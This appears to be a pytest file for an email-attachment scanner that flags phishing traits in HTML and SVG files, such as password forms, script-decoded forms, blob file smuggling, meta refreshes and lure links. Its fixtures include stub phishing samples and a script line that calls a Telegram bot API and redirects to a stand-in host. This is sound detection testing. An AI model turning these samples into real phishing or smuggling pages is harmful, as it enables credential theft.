"""Attached pages and SVG pictures: what they show, ask for, unpack and hand over."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest
from tests.collect.files.papers import LURE, budget, detail, names, urls

from mailrisk.collect.files.webpage import read_html, read_svg

FORM = f'<form action="{LURE}" method=post><input name=u><input type="password"></form>'


def test_a_form_and_its_password_field_are_told() -> None:
    found = read_html(f"<html><body>Sign in {FORM}</body></html>".encode(), budget())
    assert detail(found, "form") == LURE
    assert names(found) == {"form", "password-field"}
    assert [(link.url, link.how) for link in found.links] == [(LURE, "form")]
    assert found.text == "Sign in"


def test_a_form_that_a_script_unpacks_is_found() -> None:
    for hidden in (
        f'atob("{base64.b64encode(FORM.encode()).decode()}")',
        f'unescape("{quote(FORM * 2, safe="")}")',
    ):
        page = f"<html><script>document.write({hidden})</script></html>"
        found = read_html(page.replace("<form", "<form").encode(), budget())
        assert "script-writes-page" in names(found)
        assert "script-unpacks" in names(found)
        if "atob" in hidden:
            assert detail(found, "password-field") == "unpacked by script"
            assert urls(found) == [LURE]


def test_a_file_that_a_script_hands_over_is_told() -> None:
    page = b"<script>var b=new Blob([x]);a.href=URL.createObjectURL(b);a.download='i.zip'</script>"
    assert {"script", "smuggling"} <= names(read_html(page, budget()))


def test_a_page_that_leaves_or_sends_is_told() -> None:
    page = b"<script>fetch('https://api.telegram.org/bot1/x');location.href='https://e.example/'</script>"
    assert {"script-leaves", "script-sends"} <= names(read_html(page, budget()))


def test_a_refresh_leads_somewhere() -> None:
    found = read_html(f'<meta http-equiv="refresh" content="0;url={LURE}">'.encode(), budget())
    assert (names(found), urls(found)) == ({"meta-refresh"}, [LURE])


def test_an_honest_page_has_no_traits() -> None:
    page = b'<html><body><h1>Report</h1><a href="https://a.example/">More</a></body></html>'
    found = read_html(page, budget())
    assert not found.traits
    assert [(link.url, link.text) for link in found.links] == [("https://a.example/", "More")]


def test_pictures_inside_a_page_are_kept() -> None:
    page = b'<img src="data:image/png;base64,' + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"x" * 120) + b'">'
    (picture,) = read_html(page, budget()).pictures
    assert picture.data.startswith(b"\x89PNG")


def test_an_svg_with_script_or_foreign_form_is_told() -> None:
    script = b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>location="https://e.example/a"</script></svg>'
    found = read_svg(script, budget())
    assert {"script", "script-leaves"} <= names(found)
    assert urls(found) == ["https://e.example/a"]
    foreign = f"<svg><foreignObject>{FORM}</foreignObject></svg>".encode()
    assert {"foreign-object", "foreign-form", "password-field"} <= names(read_svg(foreign, budget()))
    assert not read_svg(b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', budget()).traits


@pytest.mark.parametrize("href", [b"href", b"xlink:href"])
def test_text_and_links_that_a_picture_draws_are_read(href: bytes) -> None:
    found = read_svg(
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g><a '
        + href
        + b'="https://lure.example/login"><text>Verify your account</text></a></g></svg>',
        budget(),
    )
    assert [link.url for link in found.links] == ["https://lure.example/login"]
    assert "Verify your account" in found.text
